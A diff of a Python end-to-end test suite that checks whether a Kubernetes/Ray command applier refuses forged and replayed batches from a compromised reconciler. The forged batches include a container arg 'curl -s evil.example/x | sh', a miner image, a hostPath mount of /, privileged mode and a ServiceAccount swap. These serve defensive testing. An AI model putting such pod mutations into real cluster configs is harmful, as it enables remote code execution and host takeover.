@@ -4,9 +4,11 @@ The attacker holds what the reconciler holds: it may publish on the commands sub
 objects bucket, so its batches name real keys, carry the objects' real owners and labels, and claim the
 current snapshot revision; they pass every authority check (namespace, verb table, ownership). Each one
 changes only what runs: an image, a hostPath volume and privilege, a ServiceAccount, a running Pod's
-image, a job's entrypoint, a Serve application (with the record that would hide it from the reconciler),
-an autoscaler RoleBinding, and finally a legitimate batch replayed after a scale-down. The applier is a
-real ``raybus watcher --roles apply`` process; nats-server, kubesim, the watch side, the reconciler and
+image, a job's entrypoint, a submitter Job's image, command, volumes, privilege, ServiceAccount or
+dashboard, a Serve application (with the record that would hide it from the reconciler),
+an autoscaler RoleBinding, a legitimate batch replayed after a scale-down, and the same replay to
+another applier process started after the first stopped. The applier is a real
+``raybus watcher --roles apply`` process; nats-server, kubesim, the watch side, the reconciler and
 the status service are the real ones. Each attack is refused with a reason naming what differs from the
 custom resource (outcome ``denied``), leaves a ``CommandDenied`` Warning Event on the custom resource,
 and changes nothing on the cluster.
@@ -18,7 +20,7 @@ import asyncio
 import copy
 import subprocess
 import uuid
-from collections.abc import AsyncIterator, Iterator
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
 from datetime import UTC, datetime
 from typing import Any
 
@@ -54,6 +56,7 @@ NS = "default"
 CLUSTER = ReconcileKey(kind="RayCluster", namespace=NS, name="rc")
 AUTOSCALED = ReconcileKey(kind="RayCluster", namespace=NS, name="auto")
 JOB = ReconcileKey(kind="RayJob", namespace=NS, name="rj")
+SUBMITTED = ReconcileKey(kind="RayJob", namespace=NS, name="rjk")
 SERVICE = ReconcileKey(kind="RayService", namespace=NS, name="rs")
 APPLIER = "applier-process"
 EVIL_IMAGE = "evil.example/miner:1"
@@ -85,6 +88,16 @@ def rayjob() -> dict[str, Any]:
     }
 
 
+def submitted_rayjob() -> dict[str, Any]:
+    """A RayJob on the existing cluster ``rc`` whose job a submitter Job submits (K8sJobMode)."""
+    return {
+        "apiVersion": "ray.io/v1",
+        "kind": "RayJob",
+        "metadata": {"name": SUBMITTED.name},
+        "spec": {"entrypoint": "python main.py", "clusterSelector": {"ray.io/cluster": CLUSTER.name}},
+    }
+
+
 def rayservice() -> dict[str, Any]:
     config = small_cluster("x", workers=1)["spec"]
     head = config["headGroupSpec"]["template"]["spec"]["containers"][0]
@@ -103,24 +116,33 @@ def autoscaled() -> dict[str, Any]:
     return body
 
 
-async def applier_holds_every_partition(p: Pipeline) -> bool:
+async def applier_holds_every_partition(p: Pipeline, member: str = APPLIER) -> bool:
     nc = await p.nc()
     try:
         read = await read_latest(nc, subjects.LEASES_BUCKET, subjects.leases_filter("apply"))
     finally:
         await nc.close()
     held = {int(key.rsplit(".", 1)[1]): value.decode() for key, value in read.values.items()}
-    return held == dict.fromkeys(range(p.settings.bus.partitions), APPLIER)
+    return held == dict.fromkeys(range(p.settings.bus.partitions), member)
 
 
-def applier_process(p: Pipeline) -> subprocess.Popen[bytes]:
+def applier_process(p: Pipeline, member: str = APPLIER) -> subprocess.Popen[bytes]:
     """``raybus watcher --roles apply``: the applier in a process of its own, on its KV facts."""
-    workdir = p.workdir / "applier"
+    workdir = p.workdir / member
     workdir.mkdir(exist_ok=True)
-    args = ["watcher", "--roles", "apply", "--worker-id", APPLIER, "--nats-url", p.nats.url]
+    args = ["watcher", "--roles", "apply", "--worker-id", member, "--nats-url", p.nats.url]
     args += ["--kubeconfig", str(p.kube.kubeconfig), "--use-kubernetes-proxy", "--health-port", "0"]
     args += ["--partitions", str(p.settings.bus.partitions)]
     return spawn_raybus(args, log_path=workdir / "applier.log", home=workdir / "home")
+
+
+def stop(process: subprocess.Popen[bytes]) -> None:
+    process.terminate()
+    try:
+        process.wait(30)
+    except subprocess.TimeoutExpired:
+        process.kill()
+        process.wait(30)
 
 
 async def head_service_of(p: Pipeline, owner: str) -> tuple[str, str]:
@@ -149,11 +171,19 @@ async def head_service_of(p: Pipeline, owner: str) -> tuple[str, str]:
     return result
 
 
+@pytest.fixture(scope="module")
+def appliers() -> list[subprocess.Popen[bytes]]:
+    """The applier processes started for the module (stopped with the pipeline)."""
+    return []
+
+
 @pytest_asyncio.fixture(scope="module", loop_scope="module")
-async def pipe(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pipeline]:
+async def pipe(
+    tmp_path_factory: pytest.TempPathFactory, appliers: list[subprocess.Popen[bytes]]
+) -> AsyncIterator[Pipeline]:
     setup_metrics("raybus-e2e")
     async with shared_pipeline(tmp_path_factory.mktemp("provenance"), replicas=1) as p:
-        process = applier_process(p)
+        appliers.append(applier_process(p))
         try:
             await p.components["applier-1"].stop()  # every partition goes to the applier process
             await eventually(
@@ -163,18 +193,15 @@ async def pipe(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Pipeli
             await asyncio.to_thread(create, p, autoscaled())
             await all_ready(p, {CLUSTER.name, AUTOSCALED.name})
             custom = p.custom()
-            await asyncio.to_thread(custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayjobs", rayjob())
+            for job in (rayjob(), submitted_rayjob()):
+                await asyncio.to_thread(custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayjobs", job)
             await asyncio.to_thread(
                 custom.create_namespaced_custom_object, "ray.io", "v1", NS, "rayservices", rayservice()
             )
             yield p
         finally:
-            process.terminate()
-            try:
-                process.wait(30)
-            except subprocess.TimeoutExpired:
-                process.kill()
-                process.wait(30)
+            for process in appliers:
+                stop(process)
 
 
 async def legitimate(p: Pipeline, key: ReconcileKey) -> list[tuple[int, bytes, CommandBatch]]:
@@ -232,17 +259,38 @@ async def publish(p: Pipeline, key: ReconcileKey, data: bytes) -> int:
     return int(ack.seq)
 
 
+async def judged(
+    p: Pipeline, key: ReconcileKey, publish_once: Callable[[], Awaitable[tuple[str, int, int]]]
+) -> list[CommandResult]:
+    """The results of a batch ``publish_once`` publishes (its id, stream sequence and command count), published
+    again while a newer decision of the key supersedes it (the key is decided again after each denial, so
+    the previous attack's redecision may land just after it): a superseded command is not run either, but
+    only a judged one shows the check."""
+
+    async def attempt() -> list[CommandResult] | None:
+        batch_id, sequence, count = await publish_once()
+        results = await results_of(p, key, batch_id, sequence, count)
+        return None if any(r.outcome == "superseded" for r in results) else results
+
+    results = await eventually(attempt, timeout=120, message=f"every batch sent for {key} was superseded")
+    assert results is not None
+    return results
+
+
 async def forge(p: Pipeline, key: ReconcileKey, *commands: Command) -> list[CommandResult]:
     """A batch as a compromised reconciler would publish it: the current revision, real names and owners."""
-    batch = CommandBatch(
-        id=f"forged-{uuid.uuid4().hex}",
-        key=key,
-        issued_at=datetime.now(UTC),
-        commands=commands,
-        snapshot_revision=await current_revision(p),
-    )
-    sequence = await publish(p, key, codec.encode(batch))
-    return await results_of(p, key, batch.id, sequence, len(commands))
+
+    async def publish_once() -> tuple[str, int, int]:
+        batch = CommandBatch(
+            id=f"forged-{uuid.uuid4().hex}",
+            key=key,
+            issued_at=datetime.now(UTC),
+            commands=commands,
+            snapshot_revision=await current_revision(p),
+        )
+        return batch.id, await publish(p, key, codec.encode(batch)), len(commands)
+
+    return await judged(p, key, publish_once)
 
 
 async def denial_event(p: Pipeline, key: ReconcileKey, text: str) -> None:
@@ -399,14 +447,26 @@ def _role_bindings(p: Pipeline) -> set[str]:
     return {b.metadata.name for b in found.items}
 
 
-async def test_8_a_replayed_batch_does_not_bring_back_a_deleted_worker(pipe: Pipeline) -> None:
+async def last_pod_creates(p: Pipeline) -> tuple[bytes, CommandBatch]:
+    """The last batch that created Pods of ``rc``, as stored: what the attacker captured."""
     creates = [
-        (sequence, data, batch)
-        for sequence, data, batch in await legitimate(pipe, CLUSTER)
+        (data, batch)
+        for _, data, batch in await legitimate(p, CLUSTER)
         if any(isinstance(c, CreateObject) and c.target.kind == "Pod" for c in batch.commands)
     ]
     assert creates, "the reconciler never created a Pod of rc"
-    _, captured, original = creates[-1]
+    return creates[-1]
+
+
+async def replayed(p: Pipeline, captured: bytes, original: CommandBatch) -> list[CommandResult]:
+    async def replay() -> tuple[str, int, int]:  # the same bytes, a new message id
+        return original.id, await publish(p, CLUSTER, captured), len(original.commands)
+
+    return await judged(p, CLUSTER, replay)
+
+
+async def test_8_a_replayed_batch_does_not_bring_back_a_deleted_worker(pipe: Pipeline) -> None:
+    captured, original = await last_pod_creates(pipe)
     await asyncio.to_thread(
         pipe.custom().patch_namespaced_custom_object,
         "ray.io",
@@ -422,8 +482,84 @@ async def test_8_a_replayed_batch_does_not_bring_back_a_deleted_worker(pipe: Pip
         return names if len(names) == 1 else None
 
     remaining = await eventually(scaled_down, timeout=60, message="rc was not scaled down to its head")
-    sequence = await publish(pipe, CLUSTER, captured)  # the same bytes, a new message id
-    results = await results_of(pipe, CLUSTER, original.id, sequence, len(original.commands))
-    assert_denied(results, "a replayed decision")
+    assert_denied(await replayed(pipe, captured, original), "a replayed decision")
     await denial_event(pipe, CLUSTER, "a replayed decision")
+    assert await pod_names(pipe, CLUSTER.name) == remaining
+
+
+SUBMITTER_ATTACKS: dict[str, tuple[Any, str]] = {
+    "image": (
+        lambda pod: pod["containers"][0].__setitem__("image", EVIL_IMAGE),
+        f"spec.template.spec.containers[0].image is '{EVIL_IMAGE}'",
+    ),
+    "command": (
+        lambda pod: pod["containers"][0].__setitem__("args", ["curl -s evil.example/x | sh"]),
+        "spec.template.spec.containers[0].args[0] is 'curl -s evil.example/x | sh'",
+    ),
+    "volumes": (
+        lambda pod: pod.__setitem__("volumes", [{"name": "host", "hostPath": {"path": "/"}}]),
+        "spec.template.spec.volumes",
+    ),
+    "privileged": (
+        lambda pod: pod["containers"][0].__setitem__("securityContext", {"privileged": True}),
+        "spec.template.spec.containers[0].securityContext",
+    ),
+    "serviceAccountName": (
+        lambda pod: pod.__setitem__("serviceAccountName", "default"),
+        "spec.template.spec.serviceAccountName 'default'",
+    ),
+    "dashboard": (
+        lambda pod: pod["containers"][0]["env"].append(
+            {"name": "RAY_DASHBOARD_ADDRESS", "value": "auto-head-svc.default.svc.cluster.local:8265"}
+        ),
+        "spec.template.spec.containers[0].env",
+    ),
+}
+
+
+async def test_9_a_submitter_job_runs_the_rayjobs_image_and_entrypoint_only(pipe: Pipeline) -> None:
+    async def submitter() -> CreateObject | None:
+        pipe.check()
+        for _, _, batch in await legitimate(pipe, SUBMITTED):
+            for command in batch.commands:
+                if isinstance(command, CreateObject) and command.target.kind == "Job":
+                    return command
+        return None
+
+    job = await eventually(submitter, timeout=120, message="the reconciler created no submitter Job for rjk")
+    assert job is not None
+    created = await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
+    assert [c.image for c in created.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
+    for mutate, why in SUBMITTER_ATTACKS.values():
+        body = copy.deepcopy(job.body)
+        mutate(body["spec"]["template"]["spec"])
+        results = await forge(pipe, SUBMITTED, CreateObject(target=job.target, body=body))
+        assert_denied(results, f"the submitter Job's {why}")
+        await denial_event(pipe, SUBMITTED, why.split(" ")[0])
+    nc = await pipe.nc()
+    try:
+        stored = await stored_messages(nc.jetstream(), subjects.RESULTS_STREAM, subjects.result_subject(SUBMITTED))
+    finally:
+        await nc.close()
+    legitimate_results = [r for r in map(codec.decode_result, (m.data for m in stored)) if "forged-" not in r.batch_id]
+    assert not [r for r in legitimate_results if r.outcome == "denied"], legitimate_results  # no false refusal
+    after = await asyncio.to_thread(client.BatchV1Api(pipe.api).read_namespaced_job, SUBMITTED.name, NS)
+    assert after.metadata.uid == created.metadata.uid
+    assert [c.image for c in after.spec.template.spec.containers] == ["rayproject/ray:2.46.0"]
+    assert after.spec.template.spec.service_account_name is None and not after.spec.template.spec.volumes
+
+
+async def test_10_a_replay_is_refused_by_a_restarted_applier_that_never_saw_the_decision(
+    pipe: Pipeline, appliers: list[subprocess.Popen[bytes]]
+) -> None:
+    remaining = await pod_names(pipe, CLUSTER.name)
+    stop(appliers[-1])
+    appliers.append(applier_process(pipe, "applier-process-2"))  # another replica, with nothing in memory
+    await eventually(
+        lambda: applier_holds_every_partition(pipe, "applier-process-2"),
+        timeout=60,
+        message="the second applier process took no lease",
+    )
+    captured, original = await last_pod_creates(pipe)
+    assert_denied(await replayed(pipe, captured, original), "a replayed decision")
     assert await pod_names(pipe, CLUSTER.name) == remaining
